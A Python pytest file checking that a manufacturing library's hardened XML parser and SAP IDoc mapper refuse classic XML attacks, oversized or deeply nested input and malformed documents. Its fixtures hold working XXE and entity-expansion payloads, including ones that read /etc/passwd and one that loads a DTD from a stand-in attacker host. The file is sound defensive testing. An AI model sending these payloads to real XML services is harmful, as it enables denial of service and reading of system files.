"""The hardened XML parser refuses every classic XML attack, and the IDoc mapper turns that into a reject."""

from __future__ import annotations

import pytest

from mfgcanon.errors import MappingError
from mfgcanon.mappers import MappingContext, get
from mfgcanon.mappers._xml import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<LOIPRO05><IDOC><E1AFKOL><AUFNR>&lol3;</AUFNR></E1AFKOL></IDOC></LOIPRO05>"""
QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"A" * 50000 + b'">]><x>' + b"&a;" * 1000 + b"</x>"
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x><IDOC>&e;</IDOC></x>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd"><x><IDOC/></x>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><x><IDOC/></x>'
XINCLUDE = (
    b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><IDOC><xi:include href="file:///etc/passwd" '
    b'parse="text"/></IDOC></x>'
)


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, QUADRATIC, EXTERNAL, EXTERNAL_DTD, PARAMETER, XINCLUDE],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd", "parameter-entity", "xinclude"],
)
def test_attack_is_refused(doc: bytes) -> None:
    with pytest.raises(MappingError) as info:
        parse_xml(doc)
    assert info.value.code == "xml_forbidden"
    result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
    assert [r.code for r in result.rejects] == ["xml_forbidden"]
    assert not result.events
    assert b"root:" not in repr(result).encode()  # nothing of /etc/passwd was read


def test_oversized_document_is_refused() -> None:
    doc = b"<LOIPRO05><IDOC>" + b"<X>1</X>" * 2000 + b"</IDOC></LOIPRO05>"
    with pytest.raises(MappingError) as info:
        parse_xml(doc, max_bytes=1000)
    assert info.value.code == "document_too_large"
    context = MappingContext(source_system="X", options={"max_document_bytes": 1000})
    assert [r.code for r in get("sap-idoc").to_canonical(doc, context).rejects] == ["document_too_large"]


def test_malformed_xml_names_the_line() -> None:
    with pytest.raises(MappingError) as info:
        parse_xml(b"<a>\n<b>\n</a>")
    assert info.value.code == "malformed_xml"
    assert info.value.position == 3
    assert "(line 3)" in str(info.value)  # an XML line, not a byte offset
    assert "byte" not in str(info.value)


def test_decode_errors_still_say_byte() -> None:
    from mfgcanon.errors import DecodeError

    assert "(byte 22)" in str(DecodeError("bad", position=22))


@pytest.mark.parametrize("depth", [300, 5000])
def test_absurd_nesting_is_a_reject_not_a_crash(depth: int) -> None:
    doc = b"<LOIPRO05><IDOC>" + b"<A>" * depth + b"x" + b"</A>" * depth + b"</IDOC></LOIPRO05>"
    result = get("sap-idoc").to_canonical(doc, MappingContext(source_system="X"))
    result.assert_balanced()
    assert result.rejects
    assert not result.events


def test_utf16_idoc_reads_like_utf8() -> None:
    from .conftest import sample

    ctx = MappingContext.build(source_system="S4H-100", plants={"1710": "America/Los_Angeles"})
    text = sample("idoc_mbgmcr03_goods_issue_261.xml").decode("utf-8")
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "encoding='UTF-16'")
    wide = get("sap-idoc").to_canonical(text.encode("utf-16"), ctx)
    narrow = get("sap-idoc").to_canonical(sample("idoc_mbgmcr03_goods_issue_261.xml"), ctx)
    assert not wide.rejects
    assert [e.id for e in wide.events] == [e.id for e in narrow.events]


def test_reject_locations_come_from_the_lxml_tree() -> None:
    """A reject names the XPath and the line of the element, as lxml numbers them."""
    from .conftest import sample

    ctx = MappingContext.build(source_system="S4H-100", plants={"1710": "America/Los_Angeles"})
    doc = sample("idoc_mbgmcr03_goods_issue_261.xml")
    second = doc.index(b"<MOVE_TYPE>", doc.index(b"<MOVE_TYPE>") + 1)
    bad = doc[:second] + b"<MOVE_TYPE></MOVE_TYPE><X/>" + doc[doc.index(b"</MOVE_TYPE>", second) + 12 :]
    result = get("sap-idoc").to_canonical(bad, ctx)
    assert len(result.events) == 1
    (reject,) = result.rejects
    assert reject.location.endswith("/E1BP2017_GM_ITEM_CREATE[2]/MOVE_TYPE"), reject.location
    assert reject.line == bad[:second].count(b"\n") + 1
    assert isinstance(reject.payload, str)
    assert reject.payload.startswith("<E1BP2017_GM_ITEM_CREATE")
